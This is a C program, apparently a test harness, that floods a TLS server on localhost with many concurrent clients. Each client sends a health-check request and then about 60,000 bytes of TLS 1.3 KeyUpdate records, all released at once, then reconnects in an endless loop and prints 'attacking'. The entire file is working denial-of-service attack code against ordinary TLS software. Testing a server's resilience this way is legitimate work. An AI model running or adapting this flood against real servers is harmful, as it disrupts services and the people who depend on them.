// `updates PORT CLIENTS`: clients over TLS that send a request, and then 60,000 bytes of key updates (RFC 8446 4.6.3),
// which all have made before, and send at the same time. Replies are discarded. Who has been disconnected connects
// again. (Node cannot update keys.)
#include <arpa/inet.h>
#include <openssl/ssl.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
static const char REQUEST[] = "GET /health HTTP/1.1\r\nHost: localhost\r\n\r\n";
static struct sockaddr_in server = { .sin_family = AF_INET };
static pthread_barrier_t prepared; // by all clients

static int send_all(int fd, BIO *records) {
  char *bytes;
  long length = BIO_get_mem_data(records, &bytes);
  for (long sent = 0; sent < length;) {
    ssize_t taken = send(fd, bytes + sent, length - sent, 0);
    if (taken <= 0) return 0;
    sent += taken;
  }
  return BIO_reset(records);
}

static void send_updates(SSL *ssl, BIO *records, int fd, int is_first) {
  char replies[65536];
  while (BIO_pending(records) < 60000) {
    if (SSL_key_update(ssl, SSL_KEY_UPDATE_NOT_REQUESTED) != 1 || SSL_do_handshake(ssl) != 1) return;
  }
  if (is_first) {
    if (pthread_barrier_wait(&prepared) == PTHREAD_BARRIER_SERIAL_THREAD) puts("attacking");
    usleep(500000); // the honest client has begun
  }
  if (send_all(fd, records)) while (recv(fd, replies, sizeof replies, 0) > 0) {}
}

static void *run_client(void *context) {
  for (int is_first = 1;; usleep(1000)) {
    SSL *ssl = SSL_new(context);
    BIO *records = BIO_new(BIO_s_mem());
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    int is_open = connect(fd, (struct sockaddr *)&server, sizeof server) == 0;
    SSL_set_fd(ssl, fd);
    is_open = is_open && SSL_connect(ssl) == 1 && SSL_write(ssl, REQUEST, sizeof REQUEST - 1) > 0;
    SSL_set0_wbio(ssl, records);
    if (is_open) {
      send_updates(ssl, records, fd, is_first);
      is_first = 0;
    }
    SSL_free(ssl);
    close(fd);
  }
  return NULL;
}

int main(int count, char **arguments) {
  pthread_t client;
  if (count != 3) return 2;
  int clients = atoi(arguments[2]);
  signal(SIGPIPE, SIG_IGN);
  setlinebuf(stdout);
  inet_pton(AF_INET, "127.0.0.1", &server.sin_addr);
  server.sin_port = htons(atoi(arguments[1]));
  SSL_CTX *context = SSL_CTX_new(TLS_client_method());
  pthread_barrier_init(&prepared, NULL, clients);
  while (clients-- > 0) pthread_create(&client, NULL, run_client, context);
  pause();
}
